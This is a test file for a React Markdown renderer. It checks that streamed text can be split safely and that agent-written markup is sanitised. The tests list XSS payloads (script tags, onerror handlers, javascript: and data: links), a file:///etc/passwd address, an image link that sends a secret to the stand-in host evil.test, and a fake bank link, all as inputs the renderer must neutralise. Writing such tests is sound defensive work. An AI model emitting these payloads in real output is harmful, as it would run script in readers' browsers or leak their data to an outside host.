import fc from 'fast-check'
import { renderToStaticMarkup } from 'react-dom/server'
import { describe, expect, test } from 'vitest'
import { Markdown, safeAddress, safeBreak } from './Markdown'

function html(text: string): string {
  return renderToStaticMarkup(<Markdown text={text} isGrowing={false} />)
}

function inside(markup: string): string {
  return markup.replace(/^<div class="prose">/, '').replace(/<\/div>$/, '').replace(/\n/g, '')
}

const BLOCKS = [
  'A plain paragraph.',
  'Another one\nof two lines.',
  '# A heading',
  '- a\n- b\n\n  more of b',
  '1. one\n2. two',
  '```js\nlet x\n\nlet y\n```',
  '~~~\nText that looks\n\nlike paragraphs\n~~~',
  '> quoted\n\nPlain after it.',
  '| a | b |\n|---|---|\n| 1 | 2 |',
  '    indented code\n\n    and more',
  '***',
]

describe('a text that grows', () => {
  test('means the same when it is cut where it may be cut', () => {
    fc.assert(
      fc.property(fc.array(fc.constantFrom(...BLOCKS), { minLength: 1, maxLength: 8 }), (blocks) => {
        const text = blocks.join('\n\n')
        const at = safeBreak(text)

        expect(inside(html(text.slice(0, at))) + inside(html(text.slice(at)))).toBe(inside(html(text)))
      }),
      { numRuns: 300 },
    )
  })

  test('can be cut somewhere as soon as it has two plain paragraphs', () => {
    expect(safeBreak('One.\n\nTwo.')).toBe('One.\n\n'.length)
  })
})

describe('what agents write', () => {
  test.each([
    ['<script>alert(1)</script>', '<script'],
    ['<img src=x onerror=alert(1)>', '<img'],
    ['![x](https://evil.test/?d=secret)', '<img'],
    ['![x](https://evil.test/?d=secret)', 'src='],
    ['[x](javascript:alert(1))', 'href'],
    ['[x](data:text/html,<script>alert(1)</script>)', 'href'],
    ['[x](vbscript:x)', 'href'],
    ['<javascript:alert(1)>', 'href'],
    ['[x]: javascript:alert(1)\n\n[x]', 'href'],
    ['<svg><style>*{background:url(https://evil.test)}</style></svg>', '<style'],
    ['<iframe src="https://evil.test"></iframe>', '<iframe'],
    ['<form action="https://evil.test"><input name=x></form>', '<form'],
  ])('%s never becomes %s', (text, forbidden) => {
    expect(html(text)).not.toContain(forbidden)
  })

  test.each(['javascript:alert(1)', ' javascript:x', 'JaVaScRiPt:x', 'data:text/html,x', '//evil.test', '/relative', '#here', 'file:///etc/passwd', ''])(
    'the address %j is not followed',
    (address) => {
      expect(safeAddress(address)).toBe('')
    },
  )

  test('links go to a new tab that knows nothing of this one, and show where', () => {
    const shown = html('[our bank](https://evil.test/login)')

    expect(shown).toContain('rel="noopener noreferrer nofollow"')
    expect(shown).toContain('(evil.test)')
  })
})
